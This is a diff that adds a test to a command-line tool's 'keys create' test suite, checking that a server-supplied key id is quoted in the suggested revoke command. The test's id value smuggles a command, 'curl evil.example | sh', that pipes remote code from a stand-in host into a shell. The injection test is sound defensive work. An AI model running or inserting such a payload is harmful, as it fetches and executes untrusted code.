@@ -55,6 +55,14 @@ describe('keys create', () => {
     expect(result.stderr).toContain('could not find its secret');
   });
 
+  it("quotes the server's id in the command it gives for revoking the key, so the id cannot add a command", async () => {
+    const id = 'key_1; curl evil.example | sh';
+    const env = await against({ created: (r, secret) => ({ ...r, id, secret }) });
+    const result = await svc(['keys', 'create', 'ci'], env);
+    expect(result.exitCode).toBe(0);
+    expect(result.stderr).toContain(`revoke the key (svc keys revoke '${id}')`);
+  });
+
   it('--json prints the answer as it came, and still exits 1 when no secret is in it', async () => {
     const env = await against({ created: (_r, secret) => ({ result: { key: { value: secret } } }) });
     const result = await svc(['keys', 'create', 'ci', '--json'], env);
